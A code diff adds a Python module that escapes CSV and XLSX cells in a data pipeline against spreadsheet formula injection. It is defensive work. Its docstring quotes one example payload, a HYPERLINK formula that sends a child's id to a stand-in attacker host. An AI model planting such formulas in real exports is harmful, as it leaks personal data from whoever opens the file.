@@ -1,0 +1,71 @@
+"""Spreadsheet cells that text from an extract cannot turn into formulas.
+
+A team name such as ``=HYPERLINK("http://evil.example/?id="&B4,"Open")`` would otherwise be a
+live formula in a workbook, or evaluated by a spreadsheet opening a CSV, and could send a child's
+id away. As OWASP's CSV-injection guidance says:
+
+- in a CSV, a text cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
+  prefixed with a single quote (a spreadsheet then shows it as text); a number such as ``-3`` or
+  ``-1,234.5`` is left as it is, so figures stay figures;
+- in a workbook, text is written as a string cell, never a formula (xlsxwriter's
+  ``write_string``; openpyxl's ``data_type = "s"``, which otherwise makes any string beginning
+  with ``=`` a formula).
+
+Every CSV and XLSX writer under ``pipelines/lib/publish/`` writes its cells through here.
+"""
+
+import re
+from pathlib import Path
+from typing import Any
+
+import polars as pl
+from openpyxl.cell.cell import Cell
+from openpyxl.worksheet.worksheet import Worksheet
+
+FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
+# A figure as the outputs write it: optional sign, digits with optional thousands commas,
+# optional decimals or exponent, optional per cent sign. A spreadsheet reads it as a number.
+_NUMBER = re.compile(r"[+-]?(?:\d{1,3}(?:,\d{3})+|\d+)?(?:\.\d+)?(?:[eE][+-]?\d+)?%?")
+_DIGIT = re.compile(r"\d")
+
+
+def csv_text(value: str) -> str:
+    """``value`` as a CSV cell that no spreadsheet evaluates as a formula."""
+    if value.startswith(FORMULA_LEADS) and not (_NUMBER.fullmatch(value) and _DIGIT.search(value)):
+        return "'" + value
+    return value
+
+
+def csv_frame(frame: pl.DataFrame) -> pl.DataFrame:
+    """``frame`` with every text column's cells escaped as ``csv_text`` does; numbers, dates
+    and flags are untouched."""
+    text_columns = [
+        name
+        for name, dtype in frame.schema.items()
+        if dtype in (pl.String, pl.Categorical) or isinstance(dtype, pl.Enum)
+    ]
+    if not text_columns:
+        return frame
+    return frame.with_columns(
+        pl.col(name).cast(pl.String).map_elements(csv_text, return_dtype=pl.String, skip_nulls=True)
+        for name in text_columns
+    )
+
+
+def write_csv(frame: pl.DataFrame, path: Path, **options: Any) -> None:
+    """Write ``frame`` as a CSV whose text cells cannot be evaluated as formulas."""
+    csv_frame(frame).write_csv(path, **options)
+
+
+def xlsx_text(sheet: Any, row: int, col: int, value: str, *cell_format: Any) -> None:
+    """Write ``value`` to an xlsxwriter sheet as a string cell, never a formula: ``sheet.write``
+    would make ``=...`` a formula (and ``123`` a number)."""
+    sheet.write_string(row, col, value, *cell_format)
+
+
+def openpyxl_cell(ws: Worksheet, row: int, column: int, value: Any) -> Cell:
+    """Set an openpyxl cell; a string stays a string cell (openpyxl makes ``=...`` a formula)."""
+    cell = ws.cell(row=row, column=column, value=value)
+    if isinstance(value, str):
+        cell.data_type = "s"
+    return cell
